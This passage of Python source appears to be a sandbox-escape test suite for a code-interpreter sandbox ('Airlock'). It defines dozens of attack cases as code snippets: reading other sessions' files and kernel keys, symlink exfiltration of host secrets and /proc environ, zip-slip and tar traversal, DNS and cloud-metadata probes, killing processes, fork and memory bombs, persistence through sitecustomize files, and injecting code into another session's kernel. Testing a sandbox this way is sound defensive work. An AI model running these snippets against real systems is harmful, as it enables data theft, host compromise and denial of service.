               _read("victim file", "$victim_workspace/victim.txt")
               + "attempt('list victim', lambda: os.listdir('$victim_workspace'))"),
    AttackCase("victim-connection-file", SI, "read another session's kernel connection file "
               "(its HMAC key) and reach its sockets", _VICTIM_SOCKETS),
    AttackCase("sessions-root-listing", SI, "list every session's folder",
               "own = sys.argv[sys.argv.index('-f') + 1].split('/')\n"
               "try:\n    names = os.listdir('$sessions_root')\nexcept OSError as exc:\n"
               "    names = []\n    print('blocked', exc)\n"
               "others = [n for n in names if n not in own]\nprint(names)\n"
               "if others:\n    print('BREACH other sessions listed', others)"),
    AttackCase("home-folders", SI, "list the host's home folders",
               "needed = {part for p in (sys.prefix, sys.base_prefix, sys.executable)\n"
               "          for part in p.split('/')}  # the Python install may live there\n"
               "for top in ('/root', '/home'):\n"
               "    try:\n        names = os.listdir(top)\n    except OSError as exc:\n"
               "        print('blocked', top, type(exc).__name__)\n        continue\n"
               "    extra = [n for n in names if n not in needed]\n    print(top, names)\n"
               "    if extra:\n        print('BREACH listed', top, extra)"),
    AttackCase("kernel-log", SI, "read the host kernel's log", _read("/dev/kmsg", "/dev/kmsg")),
    AttackCase("host-network-interfaces", SI, "see the host's network interfaces",
               "import socket\nnames = [n for _, n in socket.if_nameindex()]\nprint(names)\n"
               "if set(names) - {'lo'}:\n    print('BREACH host interfaces visible', names)"),
    # -- filesystem manipulation ---------------------------------------------------------------
    AttackCase("write-usr", FS, "write into /usr",
               "attempt('write /usr', lambda: open('/usr/$marker', 'w').write('x'))"),
    AttackCase("write-etc", FS, "write into /etc",
               "attempt('write /etc', lambda: open('/etc/$marker', 'w').write('x'))"),
    AttackCase("write-python-env", FS, "write into the kernel's Python environment",
               "import sysconfig\nfor key in ('purelib', 'stdlib'):\n"
               "    path = sysconfig.get_paths()[key]\n"
               "    attempt('write ' + path, lambda: open(path + '/$marker.py', 'w').write('x'))"),
    AttackCase("overwrite-launcher", FS, "overwrite Airlock's sandbox launcher",
               "for path in ('$launcher', '/opt/airlock/launcher.py'):\n"
               "    attempt('overwrite ' + path, lambda: open(path, 'a').write('#'))"),
    AttackCase("write-host-shared-folder", FS, "write into a world-writable host folder",
               "attempt('write drop', lambda: open('$drop_dir/$marker', 'w').write('x'))"),
    AttackCase("write-host-tmp", FS, "write into the host's /tmp and /var/tmp",
               "for folder in ('/tmp', '/var/tmp'):\n"
               "    open(f'{folder}/$marker-write', 'w').write('x')"),
    AttackCase("write-host-dev-shm", FS, "write into the host's /dev/shm",
               "open('/dev/shm/$marker-write', 'w').write('x')"),
    AttackCase("write-run-folder", FS, "store files in the kernel's own run folder, outside "
               "the workspace quota",
               "run = os.path.dirname(sys.argv[sys.argv.index('-f') + 1])\n"
               "attempt('write run folder', lambda: open(run + '/junk', 'w').write('x'))"),
    AttackCase("mknod-device", FS, "create a block device node for the host's disk",
               "import stat\nattempt('mknod', lambda: os.mknod('/mnt/data/disk', "
               "stat.S_IFBLK | 0o600, os.makedev(8, 0)))"),
    AttackCase("mount-tmpfs", FS, "mount a file system", _SYSCALLS["mount"]),
    AttackCase("chroot", FS, "chroot into the workspace", _SYSCALLS["chroot"]),
    AttackCase("symlink-download", FS, "plant a symlink to a host file in /mnt/data; the host "
               "reads and copies it out",
               "os.symlink('$secret_path', '/mnt/data/link.txt')",
               request=_host_reads_case("link.txt")),
    AttackCase("hardlink-download", FS, "plant a hard link to a host file in /mnt/data; the "
               "host reads and copies it out",
               "attempt('hard link', lambda: os.link('$secret_path', '/mnt/data/hard.txt'))",
               request=_host_reads_case("hard.txt")),
    AttackCase("proc-link-download", FS, "plant a symlink to the server's /proc environ",
               "os.symlink('/proc/$server_pid/environ', '/mnt/data/environ.txt')",
               request=_host_reads_case("environ.txt")),
    AttackCase("fifo-download", FS, "plant a FIFO where the host will read a file (hang it)",
               "os.mkfifo('/mnt/data/out.csv')", request=_host_reads_case("out.csv")),
    AttackCase("upload-through-folder-link", FS, "swap a workspace folder for a link to a host "
               "folder, then have the host upload into it",
               "os.symlink('$drop_dir', '/mnt/data/sub')", request=_upload_through_link),
    AttackCase("zip-slip", FS, "extract a zip whose members escape with ../ and absolute names",
               _ZIP_SLIP),
    AttackCase("tar-absolute-and-dotdot", FS, "extract a tar with absolute and ../ members",
               _TAR_ABSOLUTE),
    AttackCase("tar-symlink-member", FS, "extract a tar whose symlink member points at a host "
               "folder, then a file through it", _TAR_SYMLINK),
    AttackCase("tar-hardlink-member", FS, "extract a tar whose hard-link member names a host "
               "file, then read it", _TAR_HARDLINK),
    # -- external communication ----------------------------------------------------------------
    AttackCase("tcp-host-loopback", NET, "send data to a TCP server on the host's loopback",
               "import socket\nattempt('tcp loopback', lambda: socket.create_connection("
               "('127.0.0.1', $tcp_port), timeout=3).sendall(b'exfil'))"),
    AttackCase("udp-host-loopback", NET, "send a UDP datagram to the host's loopback",
               "import socket, time\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
               "try:\n    s.sendto(b'exfil', ('127.0.0.1', $udp_port))\nexcept OSError as e:\n"
               "    print('blocked', e)\ntime.sleep(0.3)"),
    AttackCase("tcp-internet", NET, "connect to a host on the Internet", _INTERNET),
    AttackCase("dns-lookup", NET, "resolve a name (DNS exfiltration channel)",
               "import socket\nattempt('resolve pypi.org', lambda: socket.getaddrinfo("
               "'airlock-exfil.pypi.org', 443))\n"
               "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
               "attempt('udp to 8.8.8.8:53', lambda: s.sendto(b'\\0' * 12, ('8.8.8.8', 53)))"),
    AttackCase("cloud-metadata", NET, "reach the cloud metadata endpoint",
               "import socket\nattempt('169.254.169.254', lambda: socket.create_connection("
               "('169.254.169.254', 80), timeout=2).close())"),
    AttackCase("unix-socket-host", NET, "connect to a host service's pathname unix socket",
               "import socket\ns = socket.socket(socket.AF_UNIX)\n"
               "attempt('connect', lambda: s.connect('$unix_socket'))\n"
               "attempt('send', lambda: s.sendall(b'exfil'))"),
    AttackCase("unix-socket-abstract", NET, "connect to a host's abstract unix socket",
               "import socket\ns = socket.socket(socket.AF_UNIX)\n"
               "attempt('connect', lambda: s.connect('\\0$abstract_name'))\n"
               "attempt('send', lambda: s.sendall(b'exfil'))"),
    AttackCase("host-run-sockets", NET, "connect to every unix socket under /run, /tmp...",
               _RUN_SOCKETS),
    AttackCase("raw-packet-socket", NET, "open raw and packet sockets",
               "import socket\nattempt('AF_PACKET', lambda: socket.socket(socket.AF_PACKET, "
               "socket.SOCK_RAW))\nattempt('raw ICMP', lambda: socket.socket(socket.AF_INET, "
               "socket.SOCK_RAW, socket.IPPROTO_ICMP))"),
    AttackCase("pip-install", NET, "pip install a package from an index (on the host's loopback)",
               _LOCAL_INDEX_PIP, timeout=60),
    # -- dangerous operations ------------------------------------------------------------------
    AttackCase("kill-server", DO, "SIGKILL the server process",
               "attempt('kill server', lambda: os.kill($server_pid, 9))", applies=_not_root_none),
    AttackCase("kill-runner", DO, "SIGKILL the process that runs the sandbox (Airlock itself)",
               "attempt('kill runner', lambda: os.kill($runner_pid, 9))", applies=_not_root_none),
    AttackCase("kill-parent", DO, "SIGKILL the kernel's parent process",
               "attempt('kill ppid', lambda: os.kill(os.getppid(), 9))", applies=_not_root_none),
    AttackCase("kill-pid-1", DO, "SIGKILL pid 1", "attempt('kill 1', lambda: os.kill(1, 9))",
               applies=_not_root_none),
    AttackCase("kill-everything", DO, "kill(-1, SIGKILL): every process the uid may signal",
               "os.kill(-1, 9)", fresh=True, applies=_not_root_none),
    AttackCase("signal-victim-kernel", DO, "SIGKILL another session's kernel",
               "attempt('kill victim', lambda: os.kill($victim_kernel_pid, 9))",
               applies=_not_root_none),
    AttackCase("ptrace-server", DO, "ptrace-attach to the server", _ptrace("$server_pid")),
    AttackCase("ptrace-victim", DO, "ptrace-attach to another session's kernel",
               _ptrace("$victim_kernel_pid")),
    AttackCase("setuid-root", DO, "become root",
               "attempt('setuid(0)', lambda: os.setuid(0))\n"
               "attempt('setgid(0)', lambda: os.setgid(0))\n"
               "caps = [line for line in open('/proc/self/status')\n"
               "        if line.startswith(('CapEff', 'CapPrm'))]\n"
               "print(caps)\n"
               "if any(int(line.split()[1], 16) for line in caps):\n"
               "    print('BREACH capabilities', caps)"),
    AttackCase("user-namespace", DO, "create a user namespace (root inside it: kernel attack "
               "surface)", _SYSCALLS["unshare_user"] + "\n" + _SYSCALLS["unshare_mount"]
               + "\nimport subprocess\nr = subprocess.run(['unshare', '-Ur', 'id', '-u'], "
               "capture_output=True, text=True)\nif r.returncode == 0:\n"
               "    print('BREACH unshare -Ur', r.stdout.strip())", fresh=True),
    AttackCase("setns", DO, "join another namespace", _SYSCALLS["setns"]),
    AttackCase("bpf", DO, "create a BPF map", _SYSCALLS["bpf"]),
    AttackCase("keyctl", DO, "add a key to the kernel keyring", _SYSCALLS["keyctl"]),
    AttackCase("perf-event-open", DO, "open a perf event (kernel attack surface)",
               _SYSCALLS["perf"]),
    AttackCase("io-uring", DO, "set up an io_uring (kernel attack surface)", _SYSCALLS["io_uring"]),
    AttackCase("userfaultfd", DO, "create a userfaultfd (kernel exploit primitive)",
               _SYSCALLS["userfaultfd"]),
    AttackCase("reboot", DO, "reboot the machine", _SYSCALLS["reboot"]),
    AttackCase("load-kernel-module", DO, "load a kernel module", _SYSCALLS["init_module"]),
    AttackCase("sysrq-trigger", DO, "write to /proc/sysrq-trigger",
               "attempt('sysrq', lambda: open('/proc/sysrq-trigger', 'w').write('h'))"),
    # -- resource exhaustion -------------------------------------------------------------------
    AttackCase("fork-bomb", RES, "fork until refused", _FORK_BOMB, fresh=True, timeout=20),
    AttackCase("thread-bomb", RES, "start threads until refused", _THREAD_BOMB, fresh=True,
               timeout=20),
    AttackCase("memory-bomb", RES, "allocate 16 GiB at once", "x = bytearray(16 * 1024**3)",
               check=error_named("MemoryError")),
    AttackCase("memory-bomb-children", RES, "four children each fill 600 MB (past the session's "
               "memory)", _MEMORY_CHILDREN, fresh=True, timeout=30),
    AttackCase("disk-bomb-workspace", RES, "write 200 MB into /mnt/data (past the quota)",
               "for i in range(25):\n"
               "    open(f'/mnt/data/fill{i}', 'wb').write(b'0' * 8 * 1024**2)",
               check=error_named("WorkspaceFull")),
    AttackCase("sparse-file", RES, "create a 100 GB sparse file",
               "attempt('sparse', lambda: os.truncate(open('/mnt/data/sparse', 'wb').name, "
               "100 * 1024**3))"),
    AttackCase("inode-bomb", RES, "create 20,000 empty files",
               "for i in range(20000):\n    open(f'/mnt/data/e{i}', 'w').close()",
               check=error_named("WorkspaceFull", "OSError")),
    AttackCase("zip-bomb", RES, "extract a highly compressed archive into /mnt/data",
               "import zipfile, io\nb = io.BytesIO()\n"
               "with zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED) as z:\n"
               "    for i in range(6):\n        z.writestr(f'zero{i}', b'\\0' * 48 * 1024**2)\n"
               "print('archive', len(b.getvalue()))\n"
               "zipfile.ZipFile(b).extractall('/mnt/data/bomb')",
               check=error_named("WorkspaceFull", "OSError"), fresh=True, timeout=30),
    AttackCase("tmp-fill", RES, "fill /tmp with 320 MB", _TMP_FILL, fresh=True, timeout=30),
    AttackCase("dev-shm-fill", RES, "fill /dev/shm with 1.2 GB", _SHM_FILL, fresh=True, timeout=30),
    AttackCase("fd-bomb", RES, "open files until refused, and keep them", _FD_BOMB, fresh=True),
    AttackCase("output-bomb", RES, "print 64 MB", "import sys\nfor _ in range(64):\n"
               "    sys.stdout.write('x' * 1024**2)", check=output_capped, timeout=30),
    AttackCase("runaway-ignoring-sigint", RES, "loop forever, ignoring SIGINT",
               "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
               timeout=3, check=error_named("TimeoutError")),
    AttackCase("segfault-crash", RES, "crash the kernel with a segmentation fault",
               "ctypes.string_at(0)",
               check=error_named("KernelRestarted")),
    AttackCase("daemon-outlives-session", RES, "leave a setsid daemon behind the session",
               _DAEMON, fresh=True),
    # -- code interpreter specific -------------------------------------------------------------
    AttackCase("engine-symlink-download", CI, "a run's answer links /mnt/data/report.csv, a "
               "symlink to a host file", request=_engine_download(
                   "os.symlink('$secret_path', 'report.csv')", "report.csv")),
    AttackCase("engine-hardlink-download", CI, "a run's answer links a hard link to a host file",
               request=_engine_download(
                   "attempt('link', lambda: os.link('$secret_path', 'report.csv'))",
                   "report.csv")),
    AttackCase("engine-victim-link-download", CI, "a run's answer links a symlink to another "
               "session's workspace file", request=_engine_download(
                   "os.symlink('$victim_workspace/victim.txt', 'v.txt')", "v.txt")),
    AttackCase("engine-store-link-download", CI, "a run's answer links a symlink to another "
               "user's file in the store", request=_engine_download(
                   "os.symlink('$store_file', 's.csv')", "s.csv")),
    AttackCase("exec-out-links", CI, "airlock exec --out on cells that plant links to host files",
               request=_exec_out(
                   "open('ok.txt', 'w').write('fine')\n"
                   "os.symlink('$secret_path', 'link.txt')\n"
                   "attempt('link', lambda: os.link('$secret_path', 'hard.txt'))\n"
                   "os.makedirs('d')\nos.symlink('$drop_dir', 'd/up')")),
    AttackCase("upload-name-traversal", CI, "upload named ../../<host folder>/evil.csv",
               request=_upload("../../../../../../$drop_dir/evil.csv")),
    AttackCase("upload-name-absolute", CI, "upload named /etc/cron.d/evil",
               request=_upload("/etc/cron.d/evil")),
    AttackCase("upload-name-backslashes", CI, "upload named ..\\..\\evil.csv",
               request=_upload("..\\..\\..\\evil.csv")),
    AttackCase("upload-name-dots", CI, "upload named ..", request=_upload("..")),
    AttackCase("upload-name-control", CI, "upload named with a newline and an escape code",
               request=_upload("evil\n\x1b[31m.csv")),
    AttackCase("upload-name-long", CI, "upload with a 300-byte name",
               request=_upload("a" * 300 + ".csv")),
    AttackCase("upload-name-internal", CI, "upload named like Airlock's own temporary files",
               request=_upload(".airlock-upload-0123456789abcdef")),
    AttackCase("upload-over-planted-link", CI, "the code plants data.csv -> host folder; then "
               "an upload named data.csv is staged",
               "os.symlink('$drop_dir/planted.csv', '/mnt/data/data.csv')",
               request=_upload("data.csv")),
    AttackCase("persist-tmp", CI, "leave a file in /tmp for the next session",
               "open('/tmp/$marker-persist', 'w').write('x')",
               followup="print('BREACH found' if os.path.exists('/tmp/$marker-persist') "
                        "else 'gone')", fresh=True),
    AttackCase("persist-dev-shm", CI, "leave a file in /dev/shm for the next session",
               "open('/dev/shm/$marker-persist', 'w').write('x')",
               followup="print('BREACH found' if os.path.exists('/dev/shm/$marker-persist') "
                        "else 'gone')", fresh=True),
    AttackCase("persist-ipython-startup", CI, "install an IPython startup file",
               "d = os.path.expanduser('~/.ipython/profile_default/startup')\n"
               "os.makedirs(d, exist_ok=True)\n"
               "open(d + '/00-pwn.py', 'w').write('airlock_pwned = True')\n"
               "for d in ('/etc/ipython', '/usr/local/etc/ipython', sys.prefix + '/etc/ipython'):\n"
               "    attempt('write ' + d, lambda: (os.makedirs(d + '/startup', exist_ok=True), "
               "open(d + '/ipython_config.py', 'w').write('x'))[1])",
               followup="print('BREACH startup ran' if 'airlock_pwned' in globals() "
                        "else 'clean')", fresh=True),
    AttackCase("persist-sitecustomize", CI, "plant sitecustomize/usercustomize and .pth files on "
               "sys.path",
               "import site\nsrc = 'import os; os.environ[\"AIRLOCK_PWNED\"] = \"1\"\\n'\n"
               "targets = [p for p in sys.path if p and os.path.isdir(p)]\n"
               "targets.append(site.getusersitepackages())\n"
               "for folder in targets:\n"
               "    for name, body in (('sitecustomize.py', src), ('usercustomize.py', src),"
               " ('$marker.pth', 'import os; os.environ[\"AIRLOCK_PWNED\"] = \"1\"\\n')):\n"
               "        try:\n            os.makedirs(folder, exist_ok=True)\n"
               "            open(os.path.join(folder, name), 'w').write(body)\n"
               "            print('planted', folder, name)\n"
               "        except OSError:\n            pass",
               followup="import subprocess\nr = subprocess.run([sys.executable, '-c', "
                        "'import os; print(os.environ.get(\"AIRLOCK_PWNED\"))'], "
                        "capture_output=True, text=True)\n"
                        "print('BREACH customize ran' if os.environ.get('AIRLOCK_PWNED') or "
                        "'1' in r.stdout else 'clean')", fresh=True),
    AttackCase("api-server-kill-and-snoop", CI, "through the REST server (uvicorn, its own "
               "process): a run kills every server-looking process, its parent and pid 1, and "
               "reads their environments; an upload is named ../../<host folder>/evil.csv",
               request=_api_server, timeout=120, applies=_not_root_none),
    AttackCase("victim-kernel-injection", CI, "connect to another session's kernel with its "
               "connection file and run code there", _INJECT),
)


def cases_by_id() -> dict[str, AttackCase]:
    found: dict[str, AttackCase] = {}
    for case in CASES:
        if case.id in found:
            raise ValueError(f"duplicate attack case id {case.id!r}")
        found[case.id] = case
    return found
